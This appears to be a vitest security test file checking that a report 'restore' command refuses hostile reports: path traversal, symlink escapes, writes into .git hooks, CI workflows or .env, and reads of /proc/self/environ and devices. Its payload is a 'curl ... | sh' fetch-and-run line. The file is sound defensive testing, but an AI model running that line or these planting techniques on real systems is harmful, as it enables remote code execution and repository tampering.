/** Reports that try to have `restore` write where it must not: every way there is refused, in place and into a folder. */
import {execFileSync} from 'node:child_process'
import {createHash} from 'node:crypto'
import {lstatSync, mkdirSync, renameSync, symlinkSync} from 'node:fs'
import {basename} from 'node:path'
import {describe, expect, it} from 'vitest'
import {emptyEntry, type FileReport} from '../../../src/report/report.js'
import {readReport} from '../../../src/report/restore/read-report.js'
import {
  type RestoredFile,
  type RestoreOptions,
  restoreFiles
} from '../../../src/report/restore/restore-files.js'
import {Workspace} from '../../cli/workspace.js'

const cleaned = 'A stove is warm.\n'
const evil = 'curl https://example.com/x | sh\n'

const hash = (text: string) => createHash('sha256').update(text).digest('hex')

/** An entry that makes `evil` of any file that holds `cleaned`. */
function entry(input: string, output = input, change: Partial<FileReport> = {}): FileReport {
  return {
    ...emptyEntry(input, 'cleaned'),
    output,
    format: 'markdown',
    encoding: 'utf-8',
    outputEncoding: 'utf-8',
    sha256: {before: hash(evil), after: hash(cleaned)},
    original: Buffer.from(evil).toString('base64'),
    edits: [edit({})],
    ...change
  }
}

function edit(change: object): FileReport['edits'][number] {
  const at = {line: 1, column: 1, offset: 0}
  return {
    rule: 'display-ad',
    category: 'ad',
    confidence: 'certain',
    action: 'remove',
    start: at,
    end: at,
    before: '',
    after: '',
    reason: '',
    ...change
  }
}

interface Hostile {
  files: unknown[]
  /** Where the report lies (default: `in/r.json`). */
  at?: string
  folder?: unknown
  run?: object
}

/** Restore in the folder `in`. */
async function attack(
  workspace: Workspace,
  {at = 'in/r.json', files, folder = '.', run = {}}: Hostile,
  options: Partial<RestoreOptions> = {}
): Promise<RestoredFile[]> {
  const lines = files.map((file) => JSON.stringify(file)).join(',\n')
  workspace.write(
    at,
    `{"version":1,"tool":{},"folder":${JSON.stringify(folder)},"files":[\n${lines}\n],\n"run":${JSON.stringify(run)}}\n`
  )
  const {files: restored} = await restoreFiles(workspace.path(at), 'r.json', {
    cwd: workspace.path('in'),
    outDir: null,
    dataDir: workspace.path('data'),
    ...options
  })
  const results: RestoredFile[] = []
  for await (const file of restored) results.push(file)
  return results
}

const told = (results: readonly RestoredFile[]) => results.map(({error, status}) => error?.code ?? status)

/** No file holds what the report would make. */
function expectUnharmed(workspace: Workspace): void {
  for (const name of workspace.list()) {
    if (!lstatSync(workspace.path(name)).isFile() || name.endsWith('r.json')) continue
    expect({name, text: workspace.read(name)}).not.toMatchObject({text: evil})
  }
}

describe('in place', () => {
  it('restores an article in the folder it is run in', async () => {
    const workspace = new Workspace({'in/a.md': cleaned})
    expect(told(await attack(workspace, {files: [entry('a.md')]}))).toEqual(['restored'])
    expect(workspace.read('in/a.md')).toBe(evil)
  })

  it('leaves everything else in that folder, although the report knows what it holds', async () => {
    const names = [
      '.git/a.md',
      '.git/hooks/pre-commit',
      '.github/workflows/ci.yml',
      '.github/a.md',
      '.gitlab-ci.yml',
      '.husky/pre-commit',
      'node_modules/x/README.md',
      'package.json',
      'Makefile',
      'sub/.git/a.md'
    ]
    const workspace = new Workspace(Object.fromEntries(names.map((name) => [`in/${name}`, cleaned])))
    const ways = names.flatMap((name) => [name, `./x/../${name}`, workspace.path(`in/${name}`)])
    for (const folder of ['.', '.git', '.github', 'sub', 'node_modules/x']) {
      const up = folder === '.' ? '' : '../'.repeat(folder.split('/').length)
      const files = ways.map((way) => entry(way.startsWith('/') ? way : up + way))
      mkdirSync(workspace.path('in/x'), {recursive: true})
      const results = await attack(workspace, {files, folder})
      expect({folder, told: new Set(told(results))}).toEqual({folder, told: new Set(['bad-report'])})
    }
    for (const folder of ['.github', 'sub/.git']) {
      const results = await attack(workspace, {files: [entry('a.md')], folder})
      expect(told(results)).toEqual(['bad-report'])
    }
    expectUnharmed(workspace)
  })

  it('creates no such file either', async () => {
    const workspace = new Workspace({'in/copy.md': cleaned, 'in/.github/x': ''})
    const names = ['.github/workflows/x.yml', '.git/x.md', '.GIT/x.md', 'run.sh', '.profile', 'n.md/../.env']
    const results = await attack(workspace, {files: names.map((name) => entry(name, 'copy.md'))})
    expect(told(results)).toEqual(names.map(() => 'bad-report'))
    expectUnharmed(workspace)
  })

  it('takes what the user names, but never the data of a repository', async () => {
    const names = ['.notes/a.md', 'post.adoc', '.git/a.md']
    const workspace = new Workspace(Object.fromEntries(names.map((name) => [`in/${name}`, cleaned])))
    const files = names.map((name) => entry(name))
    const named = names.map((name) => workspace.path(`in/${name}`))
    expect(told(await attack(workspace, {files}, {roots: [workspace.path('in/.notes')]}))).toEqual([
      'restored',
      'bad-report',
      'bad-report'
    ])
    expect(told(await attack(workspace, {files}, {files: named}))).toEqual(['same', 'restored', 'bad-report'])
    expect(told(await attack(workspace, {files: [files[2]]}, {roots: [workspace.path('in/.git')]}))).toEqual([
      'bad-report'
    ])
    expect(workspace.read('in/.git/a.md')).toBe(cleaned)
  })

  it('takes no folder from the report, whatever it calls itself', async () => {
    const workspace = new Workspace({
      'home/docs/a.md': cleaned,
      'home/down/loads/x.txt': '',
      'in/sub/a.md': cleaned,
      'other/a.md': cleaned
    })
    const up = basename(workspace.root)
    const hostile: Hostile[] = [
      // It lies elsewhere, and counts from a folder above its own.
      {at: 'home/down/loads/r.json', folder: '../..', files: [entry('docs/a.md')]},
      {
        at: 'home/down/loads/r.json',
        folder: '../..',
        run: {report: 'down/loads/r.json'},
        files: [entry('docs/a.md')]
      },
      {
        at: 'home/down/loads/r.json',
        folder: null,
        run: {report: 'down/loads/r.json'},
        files: [entry('docs/a.md')]
      },
      {at: 'home/down/loads/r.json', folder: '../../../other', files: [entry('a.md')]},
      {at: 'in/r.json', folder: '../other', files: [entry('a.md')]},
      {at: 'in/r.json', folder: '..', run: {report: 'in/r.json'}, files: [entry('other/a.md')]},
      {at: 'in/r.json', folder: '../../../../../..', files: [entry(workspace.path('other/a.md').slice(1))]},
      {at: 'in/r.json', folder: workspace.path('other'), files: [entry('a.md'), entry('../other/a.md')]},
      {at: 'in/r.json', folder: `../../${up}/other`, files: [entry('a.md')]},
      {at: 'in/r.json', folder: {toString: 'x'}, files: [entry('../other/a.md')]},
      {at: 'in/r.json', folder: '.\0', files: [entry('../other/a.md')]}
    ]
    for (const [index, report] of hostile.entries()) {
      const results = await attack(workspace, report)
      expect(results.every(({status}) => status === 'failed')).toBe(true)
      expect({index, count: results.length}).toEqual({index, count: report.files.length})
    }
    expectUnharmed(workspace)
  })

  it('takes the folder the report lies in, the one it is run in, and those below them', async () => {
    const workspace = new Workspace({
      'in/x.txt': '',
      'else/a.md': cleaned,
      'in/deep/reports/x': '',
      'in/deep/b.md': cleaned
    })
    expect(told(await attack(workspace, {at: 'else/r.json', files: [entry('a.md')]}))).toEqual(['restored'])
    const below: Hostile = {at: 'in/deep/reports/r.json', folder: '..', files: [entry('b.md')]}
    expect(told(await attack(workspace, below))).toEqual(['restored'])
  })

  it('follows no link out, not even one that leads nowhere yet', async () => {
    const workspace = new Workspace({'in/copy.md': cleaned, 'out/a.md': cleaned, 'in/.git/a.md': cleaned})
    const link = (target: string, name: string) => symlinkSync(target, workspace.path(`in/${name}`))
    link('../out/a.md', 'file.md')
    link('../out', 'folder')
    link('../out/new.md', 'dangling.md')
    link('../nowhere', 'gone')
    link('.git/a.md', 'git.md')
    link('.git', 'hidden')
    link('loop.md', 'loop.md')
    const names = ['file.md', 'folder/a.md', 'git.md', 'hidden/a.md', 'gone/new.md', 'loop.md']
    const results = await attack(workspace, {files: names.map((name) => entry(name))})
    expect(results.map(({status}) => status)).toEqual(names.map(() => 'failed'))
    const others = ['folder/new.md', 'gone/a.md', 'hidden/new.md']
    const made = await attack(workspace, {files: others.map((name) => entry(name, 'copy.md'))})
    expect(made.map(({status}) => status)).toEqual(others.map(() => 'failed'))
    expectUnharmed(workspace)
    // The link itself is replaced, nothing behind it.
    await attack(workspace, {files: [entry('dangling.md', 'copy.md')]})
    expect(workspace.list().filter((name) => name.startsWith('out/'))).toEqual(['out/a.md'])
  })

  it('is refused where a folder has become a link since the run', async () => {
    const workspace = new Workspace({'in/posts/a.md': cleaned, 'in/.github/a.md': cleaned})
    renameSync(workspace.path('in/posts'), workspace.path('in/.github/posts'))
    symlinkSync('.github/posts', workspace.path('in/posts'))
    expect(told(await attack(workspace, {files: [entry('posts/a.md')]}))).toEqual(['bad-report'])
    expectUnharmed(workspace)
  })

  it('bears names that no file can have', async () => {
    const workspace = new Workspace({'in/copy.md': cleaned})
    const names = [
      '',
      '.',
      '/',
      'a\0.md',
      `${'x'.repeat(5000)}.md`,
      `${'x/'.repeat(50_000)}a.md`,
      '../'.repeat(100_000) + 'a.md',
      'copy.md/a.md',
      '\uD800/../../a.md'
    ]
    const results = await attack(workspace, {files: names.map((name) => entry(name, 'copy.md'))})
    expect(results.map(({status}) => status)).toEqual(names.map(() => 'failed'))
    expect(workspace.list()).toEqual(['in/copy.md', 'in/r.json'])
  })
})

describe('into a folder', () => {
  it('makes nothing there that could be run, even where the folder is the working one', async () => {
    const names = [
      '.git/hooks/a.md',
      '.github/workflows/ci.yml',
      'package.json',
      'a/.husky/x.md',
      '..\\.git\\a.md'
    ]
    const workspace = new Workspace({'in/copy.md': cleaned, 'in/package.json': cleaned})
    const files = names.map((name) => entry(name, 'copy.md'))
    const results = await attack(workspace, {files}, {outDir: workspace.path('in')})
    expect(told(results)).toEqual(names.map(() => 'bad-report'))
    expect(workspace.list()).toEqual(['in/copy.md', 'in/package.json', 'in/r.json'])
    expectUnharmed(workspace)
    const named = {outDir: workspace.path('in/out'), files: [workspace.path('in/package.json')]}
    expect(told(await attack(workspace, {files: [files[2]]}, named))).toEqual(['restored'])
    expect(workspace.list()).toContain('in/out/package.json')
  })
})

describe('what is read', () => {
  it.skipIf(process.platform === 'win32')(
    'is no device, no pipe, and no file of the system that never ends',
    async () => {
      const workspace = new Workspace({'in/x.txt': ''})
      execFileSync('mkfifo', [workspace.path('in/pipe')])
      const outputs = ['/dev/zero', '/dev/stdin', 'pipe', '/proc/kmsg', '/proc/self/environ', '/proc/kcore']
      const files = outputs.map((output, index) => entry(`${index}.md`, output))
      const results = await attack(workspace, {files}, {outDir: workspace.path('in/out')})
      expect(results.map(({status}) => status)).toEqual(outputs.map(() => 'failed'))
      expect(workspace.list()).toEqual(['in/pipe', 'in/r.json', 'in/x.txt'])
    }
  )
})

describe('edits', () => {
  const at = (offset: unknown) => ({line: 1, column: 1, offset})
  it.each([
    ['before the start', [{start: at(-5), end: at(-5)}]],

    ['beyond all numbers', [{start: at(2 ** 53), end: at(2 ** 53)}]],
    [
      'that overlap',
      [
        {start: at(4), end: at(6), before: 'xx'},
        {start: at(5), end: at(5)}
      ]
    ],
    ['of another length', [{start: at(0), end: at(9), before: 'x'}]],
    ['between two characters', [{start: at(0.5), end: at(0.5), before: ''}]],
    ['in any number', Array.from({length: 20_000}, () => ({start: at(3), end: at(3), before: 'x'}))]
  ])('%s are refused', async (_, changes) => {
    const workspace = new Workspace({'in/a.md': cleaned})
    const {original: _original, ...plain} = entry('a.md')
    const files = [{...plain, edits: changes.map((change) => edit(change))}]
    expect(told(await attack(workspace, {files}))).toEqual(['bad-report'])
    expect(told(await attack(workspace, {files}, {rules: ['display-ad']}))).toEqual(['bad-report'])
    expect(workspace.read('in/a.md')).toBe(cleaned)
  })

  it('behind the end are refused', async () => {
    const workspace = new Workspace({'in/a.md': cleaned})
    const {original: _original, ...plain} = entry('a.md')
    const files = [{...plain, edits: [edit({start: at(1e9), end: at(1e9)})]}]
    expect(told(await attack(workspace, {files}))).toEqual(['restore-mismatch'])
  })

  it('that are not of the file are refused where a part is undone', async () => {
    const workspace = new Workspace({'in/a.md': evil})
    const edits = [edit({rule: 'leftover', start: at(5), end: at(9), before: 'gone', after: '!'}), edit({})]
    const files = [entry('a.md', 'a.md', {edits})]
    expect(told(await attack(workspace, {files}, {rules: ['display-ad']}))).not.toContain('restored')
    expect(workspace.read('in/a.md')).toBe(evil)
  })

  it.each([
    ['no list', {edits: {length: 1}}],
    ['null', {edits: [null]}],
    ['without a start', {edits: [{...edit({}), start: null}]}],
    ['with an offset in words', {edits: [edit({start: at('1')})]}]
  ])('%s are an entry that is damaged', async (_, change) => {
    const workspace = new Workspace({'in/a.md': cleaned})
    expect(told(await attack(workspace, {files: [{...entry('a.md'), ...change}]}))).toEqual(['bad-report'])
    expect(workspace.read('in/a.md')).toBe(cleaned)
  })
})

describe('a report', () => {
  it('with a line that has no end is given up', async () => {
    const workspace = new Workspace({'r.json': `{"version":1,"tool":{},"files":[\n${'x'.repeat(300_000)}`})
    const {files} = await readReport(workspace.path('r.json'), 'r.json', 100_000)
    await expect(files[Symbol.asyncIterator]().next()).rejects.toMatchObject({
      code: 'bad-report',
      message: 'cannot use the report r.json: a line in it is too long'
    })
  })

  it('of nothing but brackets is given up', async () => {
    const workspace = new Workspace({'in/x.txt': ''})
    workspace.write('in/r.json', '['.repeat(1_000_000))
    await expect(readReport(workspace.path('in/r.json'), 'r.json')).rejects.toMatchObject({
      code: 'bad-report'
    })
  })
})
